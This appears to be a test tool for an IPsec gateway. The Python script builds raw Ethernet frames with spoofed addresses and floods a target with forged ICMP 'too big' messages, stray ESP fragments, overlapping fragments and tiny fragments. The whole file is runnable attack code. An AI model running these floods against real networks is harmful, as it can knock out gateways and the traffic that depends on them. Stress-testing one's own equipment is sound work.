#!/usr/bin/python3
"""Attack path MTU and reassembly: hostile_path.py INTERFACE GATEWAY_MAC ATTACK COUNT LOCAL REMOTE

ATTACK: toobig     forged ICMP "too big" about packets from LOCAL to REMOTE, each with another SPI
        fragments  ESP fragments with source REMOTE, each of another packet
        overlaps   two overlapping fragments of one packet
        tiny       fragments of a few bytes
Shares no code with the gateway. Sends as fast as the kernel accepts frames."""
import random
import socket
import struct
import sys
from ipaddress import ip_address

interface, mac, attack, count, local, remote = sys.argv[1:]
gateway = bytes.fromhex(mac.replace(":", ""))
local, remote = ip_address(local), ip_address(remote)
v4 = local.version == 4
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind((interface, 0))
rng = random.Random(1191)
ESP = 50


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def packet(source, dest, protocol, payload, ident=0, frag=0, length=None):
    """length: the payload length in the header, if it is to differ."""
    length = len(payload) if length is None else length
    if v4:
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, ident & 0xFFFF, frag, 60, protocol, 0,
                           source.packed, dest.packed)
        return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload
    return struct.pack("!IHBB16s16s", 6 << 28, length, protocol, 60, source.packed, dest.packed) + payload


def send(data):
    wire.send(gateway + bytes.fromhex("020000000099") + struct.pack("!H", 0x0800 if v4 else 0x86DD) + data)


def piece(ident, offset, size, more):
    payload = rng.randbytes(size)
    if v4:
        return packet(remote, local, ESP, payload, ident, more << 13 | offset // 8)
    return packet(remote, local, 44, struct.pack("!BBHI", ESP, 0, offset | more, ident) + payload)


def toobig(_):
    quote = packet(local, remote, ESP, rng.randbytes(8), 1, 0x4000, length=1460)
    source = ip_address("203.0.113.1" if v4 else "2001:db8:ffff::1")
    body = struct.pack("!BBHI", 3 if v4 else 2, 4 if v4 else 0, 0, 576 if v4 else 1280) + quote
    pseudo = b"" if v4 else source.packed + local.packed + struct.pack("!II", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    send(packet(source, local, 1 if v4 else 58, body))


def fragments(n):
    send(piece(n, 8 * rng.randrange(1, 100), 512, 1))


def overlaps(n):
    send(piece(1 << 30 | n, 0, 512, 1))
    send(piece(1 << 30 | n, 504, 512, 1))


def tiny(n):
    send(piece(1 << 31 | n, 0, 16, 1))


make = {"toobig": toobig, "fragments": fragments, "overlaps": overlaps, "tiny": tiny}[attack]
for number in range(int(count)):
    make(number)
